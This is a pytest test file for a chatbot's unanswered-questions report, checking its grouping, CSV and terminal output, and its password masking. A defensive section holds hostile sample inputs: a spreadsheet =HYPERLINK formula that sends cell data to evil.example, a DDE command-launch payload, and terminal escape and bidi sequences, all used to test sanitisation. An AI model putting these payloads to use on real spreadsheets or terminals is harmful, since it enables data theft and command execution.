"""`citybot report unanswered`: what users asked that the bot could not answer.

Two levels:
- conversations written by Rasa's own `SQLTrackerStore` into a temporary SQLite file (no model
  needed), covering every way a question goes unanswered, the language, grouping and `--since`;
- REAL conversations: the action server and a Rasa server on the trained model, an SQL tracker
  store (SQLite, then PostgreSQL in a fresh schema), questions over REST in English and French,
  then the report command, its text and its CSV.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import os
import re
import secrets
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from citybot.cli import main
from citybot.report import RESPONSE_REASONS, StoreError, unanswered_groups
from citybot.report.reasons import DEFAULT_MIN_CONFIDENCE, subject_key

REPO_ROOT = Path(__file__).resolve().parents[1]
CITYBOT = REPO_ROOT / ".venv" / "bin" / "citybot"
DAY = dt.datetime(2026, 11, 3, 9, 0, tzinfo=dt.timezone.utc)
POSTGRES_URL = os.environ.get("POSTGRES_URL", "postgresql://postgres@127.0.0.1:5432/test")


# ----- a real SQL tracker store, written by Rasa's SQLTrackerStore ------------------------------


def _at(minutes: float) -> float:
    return (DAY + dt.timedelta(minutes=minutes)).timestamp()


def user(
    text: str,
    intent: str,
    minute: float,
    confidence: float = 0.98,
    entities: list[dict[str, Any]] | None = None,
    language_hint: str | None = None,
    ranking: list[str] | None = None,
):
    """A UserUttered as Rasa stores it; entity dicts take `start`/`end` from where the value sits."""
    from rasa.shared.core.events import UserUttered

    placed = []
    for entity in entities or []:
        start = text.find(entity["typed"])
        placed.append(
            {
                "entity": entity["entity"],
                "value": entity.get("value", entity["typed"]),
                "start": start,
                "end": start + len(entity["typed"]),
            }
        )
    names = [intent] + (ranking or [])
    parse = {
        "intent": {"name": intent, "confidence": confidence},
        "entities": placed,
        "text": text,
        "intent_ranking": [
            {"name": n, "confidence": confidence if i == 0 else 0.1} for i, n in enumerate(names)
        ],
    }
    return UserUttered(
        text,
        parse_data=parse,
        timestamp=_at(minute),
        metadata={"language": language_hint} if language_hint else {},
    )


def bot(response: str | None, text: str, minute: float, **values: Any):
    from rasa.shared.core.events import BotUttered

    metadata = {"utter_action": response, **values} if response else {}
    return BotUttered(text, data={}, metadata=metadata, timestamp=_at(minute))


def language(code: str, minute: float):
    from rasa.shared.core.events import SlotSet

    return SlotSet("language", code, timestamp=_at(minute))


def city(typed: str, value: str | None = None) -> dict[str, str]:
    return {"entity": "city", "typed": typed, "value": value or typed}


def topic(typed: str, value: str) -> dict[str, str]:
    return {"entity": "topic", "typed": typed, "value": value}


CONVERSATIONS = {
    "alice": [
        user("What did Lagos do about schools?", "ask_city_topic", 0, entities=[city("Lagos")]),
        language("en", 0.1),
        bot("utter_unknown_city", "I have no information about Lagos.", 0.2, city="Lagos"),
        user(
            "What did Chefchaouen do about exams?",
            "ask_city_topic",
            1,
            entities=[city("Chefchaouen", "chefchaouen"), topic("exams", "exams")],
        ),
        language("en", 1.1),
        bot("utter_city_topic", "Chefchaouen, exams: ...", 1.2, city="Chefchaouen"),
        user("Et Lagos ?", "inform", 2, entities=[city("Lagos")], language_hint="fr"),
        language("fr", 2.1),  # the user switched: the bot answered in French
        bot("utter_unknown_city", "Je n'ai aucune information sur Lagos.", 2.2, city="Lagos"),
        language("en", 2.3),  # set after the reply: does not change that turn's language
    ],
    "bruno": [
        user("Qu'a fait lagos pour les écoles ?", "ask_city_topic", 60, entities=[city("lagos")]),
        language("fr", 60.1),
        bot("utter_unknown_city", "Je n'ai aucune information sur lagos.", 60.2, city="lagos"),
        user("blorp fizzle wug", "nlu_fallback", 61, confidence=0.5, ranking=["ask_series", "greet"]),
        language("fr", 61.1),
        bot("utter_fallback", "Désolé, je ne suis pas sûr de comprendre.", 61.2),
        user(
            "Qu'a fait Chefchaouen pour la nourriture ?",
            "ask_city_topic",
            62,
            entities=[city("Chefchaouen", "chefchaouen"), topic("nourriture", "food")],
        ),
        language("fr", 62.1),
        bot(
            "utter_city_topic_none",
            "Le compte rendu ne mentionne rien...",
            62.2,
            city="Chefchaouen",
            topic="alimentation",
        ),
        user("quand était le webinaire sur les masques", "ask_webinar", 63, confidence=0.55),
        language("fr", 63.1),
        bot("utter_webinar", "Le webinaire du GNLC du 23 avril 2020...", 63.2),
        user("Bonjour", "greet", 64),
        language("fr", 64.1),  # and no reply at all (e.g. the action server was down)
    ],
    "carla": [  # yesterday: only listed without --since
        user("What did Gdynia do about food?", "ask_city_topic", -1440, entities=[city("Gdynia")]),
        language("en", -1439.9),
        bot("utter_city_series_only", "Gdynia (Poland) presented at ...", -1439.8, city="Gdynia (Poland)"),
        bot(None, "plain text without a response name", -1439.7),
        user(
            "Was there a webinar on 12 May 2020?",
            "ask_series",
            -1439,
            entities=[{"entity": "webinar_date", "typed": "12"}],
        ),
        language("en", -1438.9),
        bot(
            "utter_no_webinar_on",
            "My source lists no webinar of the series on 12 May 2020.",
            -1438.8,
            date="12 May 2020",
            dates="19 March 2020, ...",
        ),
    ],
}


def write_store(path: Path, conversations: dict[str, list]) -> str:
    """Save the conversations with Rasa's SQLTrackerStore; returns the store's URL."""
    from rasa.core.tracker_store import SQLTrackerStore
    from rasa.shared.core.slots import TextSlot
    from rasa.shared.core.trackers import DialogueStateTracker

    store = SQLTrackerStore(dialect="sqlite", db=str(path))
    for sender, events in conversations.items():
        tracker = DialogueStateTracker.from_events(sender, events, slots=[TextSlot("language", mappings=[])])
        asyncio.run(store.save(tracker))
    store.engine.dispose()
    return f"sqlite:///{path}"


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> str:
    return write_store(tmp_path_factory.mktemp("store") / "conversations.db", CONVERSATIONS)


def by_reason(groups) -> dict[str, dict[str, Any]]:
    return {(g.reason.key, g.subject): g for g in groups}


def test_unknown_city_grouped_across_spellings_conversations_and_languages(store):
    groups = by_reason(unanswered_groups(store))
    lagos = groups[("unknown_city", "Lagos")]
    assert lagos.count == 3 and lagos.conversations == 2
    assert dict(lagos.languages) == {"en": 1, "fr": 2}
    assert lagos.first_seen == DAY and lagos.last_seen == DAY + dt.timedelta(minutes=60)
    assert lagos.examples() == [
        "What did Lagos do about schools?",
        "Et Lagos ?",
        "Qu'a fait lagos pour les écoles ?",
    ]


def test_every_kind_of_unanswered_question_is_listed_once(store):
    groups = unanswered_groups(store)
    assert [(g.reason.key, g.subject, g.count) for g in groups] == [
        ("not_understood", "blorp fizzle wug", 1),
        ("unknown_city", "Lagos", 3),
        ("series_only_city", "Gdynia", 1),
        ("city_topic_none", "Chefchaouen / nourriture", 1),
        ("no_webinar_on_date", "12 May 2020", 1),  # what the action understood, not just "12"
        ("no_reply", "Bonjour", 1),
        ("low_confidence", "quand était le webinaire sur les masques", 1),
    ]
    fallback = groups[0]
    assert dict(fallback.guessed_intents) == {"ask_series": 1}  # the runner-up, not nlu_fallback
    assert dict(fallback.languages) == {"fr": 1}


#: Issue 16's honest non-answers (and one answer whose name sounds like one), in one conversation.
HONEST_NON_ANSWERS = [
    user("is there a casino in Chefchaouen?", "out_of_scope", 0, entities=[city("Chefchaouen")]),
    bot(
        "utter_city_nothing_matches",
        "My sources on Chefchaouen (...) say nothing that answers this question.",
        0.1,
        city="Chefchaouen",
    ),
    user("What did Danielle Valéro say about tourism?", "ask_said", 1),
    bot(
        "utter_said_unmatched",
        "My sources report nothing ... said about that.",
        1.1,
        person="Danielle Valéro",
    ),
    bot("utter_said", "Danielle Valéro said: ...", 1.2, person="Danielle Valéro"),
    user("Qu'a dit Danielle Valéro ?", "ask_said", 2),
    bot(
        "utter_said_nothing", "Mes sources ne rapportent aucune parole de ...", 2.1, person="Danielle Valéro"
    ),
    user("what did he say?", "ask_said", 3),
    bot("utter_said_whom", "Whose words do you mean? ...", 3.1, people="..."),
    user("Who presented at the webinar of 10 June 2020?", "ask_webinar", 4),
    bot(
        "utter_webinar_presenters_unnamed",
        "My sources do not name who presented ...",
        4.1,
        date="10 June 2020",
    ),
    user("more", "ask_more", 5),
    bot("utter_more_nothing", "There is nothing more to show. ...", 5.1),
]


def test_issue_16_honest_non_answers_are_listed_and_nothing_more_is_not(tmp_path):
    url = write_store(tmp_path / "honest.db", {"dora": HONEST_NON_ANSWERS})
    assert [(g.reason.key, g.subject, g.count) for g in unanswered_groups(url)] == [
        ("unknown_person", "what did he say?", 1),
        ("source_silent", "Danielle Valéro", 2),  # said nothing, or nothing about tourism
        ("source_silent", "10 June 2020", 1),
        ("source_silent", "Chefchaouen", 1),
    ]


def test_answered_questions_are_not_listed(store):
    asked = [example for g in unanswered_groups(store) for example in g.examples(10)]
    assert "What did Chefchaouen do about exams?" not in asked
    assert all("Chefchaouen do" not in text for text in asked)


def test_since_keeps_only_conversations_from_that_day(store):
    groups = by_reason(unanswered_groups(store, since=DAY.date()))
    assert ("series_only_city", "Gdynia") not in groups
    assert ("unknown_city", "Lagos") in groups
    assert unanswered_groups(store, since=DAY.date() + dt.timedelta(days=1)) == []


def test_min_confidence_decides_what_counts_as_misunderstood(store):
    assert DEFAULT_MIN_CONFIDENCE == 0.6
    strict = by_reason(unanswered_groups(store, min_confidence=0.5))
    assert ("low_confidence", "quand était le webinaire sur les masques") not in strict


def test_grouping_key_ignores_case_accents_and_punctuation():
    assert (
        subject_key("Saint-Étienne-des-Tests ?")
        == subject_key("saint etienne des tests")
        == "saint etienne des tests"
    )


# ----- the classification table stays in line with the domain ---------------------------------


def _domain_responses() -> set:
    domain = yaml.safe_load((REPO_ROOT / "bot" / "domain.yml").read_text(encoding="utf-8"))
    return set(domain["responses"])


def test_every_classified_response_exists_in_the_domain():
    assert set(RESPONSE_REASONS) - _domain_responses() == set()


#: Responses whose names look like "no answer" but that do answer: questions back to the user,
#: a webinar's date and title (only its presenters are unknown), "my last answer cited no
#: source" (a true answer to "source?", not a gap in the knowledge base), "nothing more to show"
#: (the answer to "more" once a list is done) and a debate's facts whose speaker no source names.
ANSWERING = {
    "utter_source_none",
    "utter_ask_city",
    "utter_ask_topic",
    "utter_ask_organisation",
    "utter_series_webinar_no_presenters",
    "utter_more_nothing",
    "utter_city_topic_debate_unnamed",
}


def test_every_no_answer_response_of_the_domain_is_classified():
    """A response added to the domain for a new "I don't know" case must be added to the table."""
    looks_unanswered = {
        name
        for name in _domain_responses()
        if any(
            word in name
            for word in (
                "unknown",
                "nothing",
                "unmatched",
                "unnamed",
                "_whom",
                "_none",
                "_no_",
                "not_in",
                "fallback",
                "default",
                "technical",
                "out_of_scope",
            )
        )
    }
    assert looks_unanswered - ANSWERING - set(RESPONSE_REASONS) == set()


# ----- the command: text, CSV, errors ------------------------------------------------------------


def test_command_prints_groups_and_writes_csv(store, tmp_path, capsys):
    out_csv = tmp_path / "unanswered.csv"
    assert (
        main(["report", "unanswered", "--store", store, "--since", "2026-11-03", "--csv", str(out_csv)]) == 0
    )
    text = capsys.readouterr().out
    lines = text.splitlines()
    assert lines[0] == (
        f"Unanswered questions in {store} since 2026-11-03: 7 unanswered questions in 5 groups"
    )
    assert "Unknown city [unknown_city] (3)" in lines
    assert "  Lagos  x3  (fr 2, en 1; 2 conversations; 2026-11-03 09:00 .. 2026-11-03 10:00 UTC)" in lines
    assert '    "Qu\'a fait lagos pour les écoles ?"' in lines
    assert "    understood as: ask_series 1" in lines
    assert "Gdynia" not in text
    assert lines[-1] == f"wrote {out_csv} (5 rows)"

    raw = out_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read the accents right
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    lagos = next(r for r in rows if r["asked"] == "Lagos")
    assert lagos == {
        "reason": "unknown_city",
        "reason_label": "Unknown city",
        "asked": "Lagos",
        "count": "3",
        "conversations": "2",
        "languages": "fr 2, en 1",
        "en": "1",
        "fr": "2",
        "first_seen": "2026-11-03 09:00",
        "last_seen": "2026-11-03 10:00",
        "guessed_intents": "ask_city_topic 2, inform 1",
        "examples": "What did Lagos do about schools? | Et Lagos ? | Qu'a fait lagos pour les écoles ?",
    }
    assert {r["reason"] for r in rows} == {
        "not_understood",
        "unknown_city",
        "city_topic_none",
        "no_reply",
        "low_confidence",
    }


def test_command_reads_the_store_from_the_environment(store, monkeypatch, capsys):
    monkeypatch.setenv("TRACKER_STORE_URL", store)
    assert main(["report", "unanswered"]) == 0
    assert "Gdynia  x1" in capsys.readouterr().out


def test_command_without_a_store_says_how_to_give_one(monkeypatch, capsys):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    assert main(["report", "unanswered"]) == 2
    assert "pass --store URL or set TRACKER_STORE_URL" in capsys.readouterr().err


def test_missing_sqlite_file_is_an_error_and_is_not_created(tmp_path, capsys):
    missing = tmp_path / "var" / "conversations.db"
    assert main(["report", "unanswered", "--store", f"sqlite:///{missing}"]) == 1
    assert f"no conversation store at {missing}" in capsys.readouterr().err
    assert not missing.exists()


def test_database_without_events_table(tmp_path):
    import sqlite3

    empty = tmp_path / "other.db"
    sqlite3.connect(empty).execute("create table t (x)").connection.close()
    with pytest.raises(StoreError, match="has no `events` table"):
        unanswered_groups(f"sqlite:///{empty}")


def test_wrong_url_and_date_are_usage_errors(capsys):
    with pytest.raises(StoreError, match="not a database URL"):
        unanswered_groups("conversations.db")
    with pytest.raises(SystemExit) as stop:
        main(["report", "unanswered", "--store", "sqlite:///x.db", "--since", "2026-02-30"])
    assert stop.value.code == 2
    assert "'2026-02-30' is not a date written YYYY-MM-DD" in capsys.readouterr().err


def test_unreachable_postgresql_hides_the_password(capsys):
    assert main(["report", "unanswered", "--store", "postgresql://postgres:s3cret@127.0.0.1:1/test"]) == 1
    err = capsys.readouterr().err
    assert "cannot read postgresql://postgres:***@127.0.0.1:1/test" in err and "s3cret" not in err


# ----- REAL conversations with the trained bot -------------------------------------------------


def require(condition: bool, why: str, how: str) -> None:
    """Skip (or fail when CI sets CITYBOT_REQUIRE_SERVICES=1) when a service is missing."""
    if condition:
        return
    if os.environ.get("CITYBOT_REQUIRE_SERVICES") == "1":
        pytest.fail(f"{why} (CITYBOT_REQUIRE_SERVICES=1)")
    pytest.skip(f"{why}: {how}")


#: (language hint, question, expected reason, thing asked) — one conversation per language.
QUESTIONS = [
    ("en", "What did Lagos do about schools?", "unknown_city", "Lagos"),
    ("en", "What did Lima do about schools?", "series_only_city", "Lima"),  # known only as a presenter
    ("en", "asdkjh qwpoeiru zzzz", None, None),
    ("en", "What did Chefchaouen do about exams?", "answered", None),
    ("fr", "Qu'a fait Lagos pour les écoles ?", "unknown_city", "Lagos"),
    ("fr", "Qu'a fait Lima pour les écoles ?", "series_only_city", "Lima"),
    ("fr", "Qu'a fait Chefchaouen pour les examens ?", "answered", None),
]
GIBBERISH = "asdkjh qwpoeiru zzzz"


@pytest.fixture(scope="module")
def actions_server(tmp_path_factory) -> Iterator[Any]:
    from servers import find_model, start_action_server

    require(find_model() is not None, "no trained model in models/", "run `make train` first")
    server = start_action_server(tmp_path_factory.mktemp("actions"))
    yield server
    server.stop()


def talk_and_report(
    actions_server, store_url: str, log_dir: Path, env: dict[str, str] | None = None
) -> dict[str, Any]:
    """Start Rasa on `store_url`, ask QUESTIONS over REST, stop Rasa, run the report command."""
    from servers import action_endpoint, find_model, http_post_json, start_rasa_server

    endpoints = log_dir / "endpoints.yml"
    endpoints.write_text(
        yaml.safe_dump(
            {
                "action_endpoint": action_endpoint(f"{actions_server.url}/webhook"),
                "tracker_store": {"type": "SQL", "url": store_url},
            }
        )
    )
    credentials = log_dir / "credentials.yml"
    credentials.write_text("rest: {}\n")
    rasa = start_rasa_server(
        find_model(), credentials, endpoints, log_dir, cors=[], env=env or {}, auth_token=secrets.token_hex(8)
    )
    prefix = f"report-{secrets.token_hex(4)}"
    answers = []
    try:
        for hint, question, _, _ in QUESTIONS:
            status, body = http_post_json(
                f"{rasa.url}/webhooks/rest/webhook",
                {"sender": f"{prefix}-{hint}", "message": question, "metadata": {"language": hint}},
            )
            assert status == 200, body
            answers.append(body.decode("utf-8"))
    finally:
        rasa.stop()
    out_csv = log_dir / "unanswered.csv"
    today = dt.datetime.now(dt.timezone.utc).date()
    result = subprocess.run(
        [
            str(CITYBOT),
            "report",
            "unanswered",
            "--store",
            store_url,
            "--since",
            str(today),
            "--csv",
            str(out_csv),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    return {"text": result.stdout, "rows": rows, "answers": answers, "today": today}


def check_real_report(report: dict[str, Any]) -> None:
    text, rows, today = report["text"], report["rows"], report["today"]
    lines = text.splitlines()
    assert any(line.startswith("  Lagos  x2  (en 1, fr 1; 2 conversations;") for line in lines), text
    assert any(line.startswith("  Lima  x2  (en 1, fr 1; 2 conversations;") for line in lines), text
    assert "Chefchaouen" not in text, "an answered question was listed:\n" + text
    assert GIBBERISH in text

    by_asked = {(r["reason"], r["asked"]): r for r in rows}
    lagos = by_asked[("unknown_city", "Lagos")]
    assert (lagos["count"], lagos["en"], lagos["fr"]) == ("2", "1", "1")
    assert lagos["first_seen"].startswith(str(today))
    assert "Qu'a fait Lagos pour les écoles ?" in lagos["examples"]
    lima = by_asked[("series_only_city", "Lima")]
    assert (lima["count"], lima["en"], lima["fr"]) == ("2", "1", "1")
    gibberish = [r for r in rows if GIBBERISH in r["examples"]]
    assert len(gibberish) == 1 and gibberish[0]["reason"] in ("out_of_scope", "not_understood")
    assert not [r for r in rows if "Chefchaouen" in r["examples"]]
    assert len(rows) == 3, rows


@pytest.mark.model
@pytest.mark.server
def test_report_on_real_conversations_in_sqlite(actions_server, tmp_path):
    url = f"sqlite:///{tmp_path / 'conversations.db'}"
    report = talk_and_report(actions_server, url, tmp_path)
    assert "Chefchaouen" in report["answers"][3]  # the bot did answer that one
    check_real_report(report)


def _postgres_reachable() -> str | None:
    """None when PostgreSQL answers at POSTGRES_URL, else why not."""
    try:
        import psycopg2
    except ImportError:
        return "psycopg2 is not installed (pip install -e '.[test]')"
    try:
        psycopg2.connect(POSTGRES_URL, connect_timeout=3).close()
    except psycopg2.Error as error:
        return f"PostgreSQL does not answer at {POSTGRES_URL} ({str(error).strip().splitlines()[0]})"
    return None


@pytest.fixture
def postgres_schema() -> Iterator[str]:
    """A fresh schema, dropped afterwards, so other tests' conversations never mix in."""
    problem = _postgres_reachable()
    require(
        problem is None, str(problem), "start PostgreSQL or set POSTGRES_URL=postgresql://user@host:port/db"
    )
    import psycopg2

    schema = f"citybot_report_{secrets.token_hex(4)}"
    connection = psycopg2.connect(POSTGRES_URL)
    connection.autocommit = True
    connection.cursor().execute(f"CREATE SCHEMA {schema}")
    try:
        yield schema
    finally:
        connection.cursor().execute(f"DROP SCHEMA {schema} CASCADE")
        connection.close()


@pytest.mark.model
@pytest.mark.server
@pytest.mark.postgres
def test_report_on_real_conversations_in_postgresql(postgres_schema, actions_server, tmp_path):
    # Rasa and the report both read POSTGRESQL_SCHEMA (Rasa's variable) for the search_path.
    report = talk_and_report(
        actions_server, POSTGRES_URL, tmp_path, env={"POSTGRESQL_SCHEMA": postgres_schema}
    )
    check_real_report(report)


# ----- hostile messages: the report is safe in a spreadsheet and a terminal ---------------------

#: What users can type, each sent as a question the bot did not understand (subject = the text).
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
HOSTILE = {
    "hyperlink": HYPERLINK,
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "spaced": "   =1+1",
    "tab": "\t=1+1",
    "osc": "\x1b]0;pwned\x07\x1b[2Jscreen cleared",
    "c1": "\x9b31mred\x9d0;title\x9c text",
    "bidi": "abc \u202eevil\u202c def",
    "surrogate": "Lagos \ud800 ?",
    "newlines": "line one\r\nline two\n=1+1",
    "huge": "blah " * 200_000,  # 1 MB
}
#: Characters that must never reach the terminal or a cell: C0 (newline aside), DEL, C1, surrogates.
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")


def hostile_turn(sender: str, text: str, minute: float, parse_text: str | None = None, entities=()):
    """A not-understood question as Rasa stores it; `parse_text` is what the NLU saw."""
    from rasa.shared.core.events import UserUttered

    parse = {
        "intent": {"name": "nlu_fallback", "confidence": 0.3},
        "entities": list(entities),
        "text": text if parse_text is None else parse_text,
        "intent_ranking": [{"name": "nlu_fallback", "confidence": 0.3}],
    }
    return [
        UserUttered(text, parse_data=parse, timestamp=_at(minute)),
        language("en", minute + 0.1),
        bot("utter_fallback", "Sorry?", minute + 0.2),
    ]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> str:
    conversations = {
        f"hostile-{name}": hostile_turn(f"hostile-{name}", text, index)
        for index, (name, text) in enumerate(HOSTILE.items())
    }
    # The NLU saw the cleaned text ("[31mLagos": MessageLimit drops the ESC); the entity offsets
    # point into it, so "Lagos" is at 4 there but at 5 in the raw text.
    conversations["offsets"] = [
        *hostile_turn("offsets", "\x1b[31mLagos", 30, parse_text="[31mLagos"),
    ]
    conversations["offsets"][0].parse_data["intent"] = {"name": "ask_city", "confidence": 0.9}
    conversations["offsets"][0].parse_data["entities"] = [
        {"entity": "city", "value": "Lagos", "start": 4, "end": 9}
    ]
    conversations["offsets"][2] = bot("utter_unknown_city", "I know nothing of Lagos.", 30.2, city="Lagos")
    # REST stores a client's metadata as sent: a "language" that is an object stopped the report.
    conversations["metadata"] = hostile_turn("metadata", "zqxmetadata", 40)
    conversations["metadata"][0].metadata = {"language": {"code": ["fr"]}}
    del conversations["metadata"][1]  # no language slot: the hint is all the report has
    return write_store(tmp_path_factory.mktemp("hostile") / "conversations.db", conversations)


def run_report(store: str, tmp_path: Path, capsys) -> tuple[str, list[list[str]], bytes]:
    out_csv = tmp_path / "unanswered.csv"
    assert main(["report", "unanswered", "--store", store, "--csv", str(out_csv)]) == 0
    raw = out_csv.read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return capsys.readouterr().out, rows, raw


def test_hostile_messages_make_a_safe_csv(hostile_store, tmp_path, capsys):
    _, rows, raw = run_report(hostile_store, tmp_path, capsys)
    header, body = rows[0], rows[1:]
    asked = {row[header.index("asked")] for row in body}
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", " ")), value
            assert not FORBIDDEN.search(value), repr(value)
            assert len(value) <= 1001
    assert "'" + HYPERLINK in asked  # shown as typed, but as text
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'=1+1"} <= asked
    assert "screen cleared" in asked  # the OSC and CSI sequences removed whole, no "]0;" debris
    assert "red text" in asked
    assert "abc evil def" in asked
    assert "Lagos ? ?" in asked  # the lone surrogate became "?"
    assert "line one line two =1+1" in asked
    assert "zqxmetadata" in asked
    huge = next(value for value in asked if value.startswith("blah"))
    assert len(huge) == 200 and huge.endswith("…")
    assert ("unknown_city", "Lagos") in {(row[0], row[header.index("asked")]) for row in body}
    raw.decode("utf-8")  # strict: no surrogate could be written
    # Text cells are quoted: a spreadsheet splitting on ";" or "," cannot start a cell inside one.
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"' in raw


def test_hostile_messages_make_a_safe_terminal_report(hostile_store, tmp_path, capsys):
    text, _, _ = run_report(hostile_store, tmp_path, capsys)
    assert not FORBIDDEN.search(text), [line for line in text.splitlines() if FORBIDDEN.search(line)]
    assert "]0;" not in text and "[2J" not in text
    assert max(len(line) for line in text.splitlines()) < 300  # the 1 MB message is one short line
    assert f"  {HYPERLINK}  x1" in text  # the terminal shows it as typed: it is no formula there
    text.encode("utf-8")


def test_subjects_come_from_the_text_the_entity_offsets_point_into(hostile_store):
    groups = by_reason(unanswered_groups(hostile_store))
    assert ("unknown_city", "Lagos") in groups  # the raw text would give "1mLag"
    assert groups[("unknown_city", "Lagos")].examples() == ["[31mLagos"]


def test_subjects_fall_back_to_the_stored_text_without_parse_text(tmp_path):
    conversation = hostile_turn("old", "Qu'a fait Lagos ?", 0)
    del conversation[0].parse_data["text"]
    groups = unanswered_groups(write_store(tmp_path / "c.db", {"old": conversation}))
    assert [g.subject for g in groups] == ["Qu'a fait Lagos ?"]


def test_report_prints_on_a_terminal_that_cannot_show_accents(hostile_store, tmp_path):
    """LANG=C or a Latin-1 console: "?" for what it cannot show, never an encoding traceback."""
    result = subprocess.run(
        [str(CITYBOT), "report", "unanswered", "--store", hostile_store],
        capture_output=True,
        timeout=120,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
    )
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    assert b"Traceback" not in result.stderr
    assert b"'=1+1" not in result.stdout and b"=1+1  x" in result.stdout  # no "'" on screen
    assert b"\x1b" not in result.stdout


def test_a_row_that_is_not_utf8_does_not_stop_the_report(store, tmp_path):
    import shutil
    import sqlite3

    copy = tmp_path / "copy.db"
    shutil.copy(store.removeprefix("sqlite:///"), copy)
    with sqlite3.connect(copy) as connection:
        connection.execute(
            "insert into events (sender_id, type_name, timestamp, data) "
            "values ('broken', 'user', ?, cast(? as text))",
            (_at(5), b'{"event": "user", "text": "caf\xe9 \xff"}'),
        )
    groups = by_reason(unanswered_groups(f"sqlite:///{copy}"))
    assert groups[("no_reply", "caf\ufffd \ufffd")].count == 1
    assert ("unknown_city", "Lagos") in groups  # and every other conversation is still read


# ----- the store's URL never shows its password -----------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://staff:s3cret@127.0.0.1:1/test",  # parsed: SQLAlchemy's error
        "postgresql://staff:s3cret@db:port/test",  # a port that is no number: unparsable
        "postgresql://staff:s3c@ret@127.0.0.1:1/test",  # an unencoded "@": SQLAlchemy shows "ret"
        "nonsense://staff:s3cret@db/test",  # no such database dialect
        "not a url://staff:s3cret@db",  # not a URL at all
    ],
)
def test_no_error_message_shows_the_password(url, capsys, monkeypatch):
    monkeypatch.setenv("TRACKER_STORE_URL", url)
    assert main(["report", "unanswered"]) in (1, 2)
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "staff:***@" in err, err
    assert "s3c" not in err and "ret@" not in err, err


def test_a_password_on_the_command_line_is_warned_about(capsys):
    assert main(["report", "unanswered", "--store", "postgresql://staff:s3cret@127.0.0.1:1/test"]) == 1
    err = capsys.readouterr().err
    assert "warning: the password in --store is visible" in err and "set TRACKER_STORE_URL instead" in err
    assert "s3cret" not in err
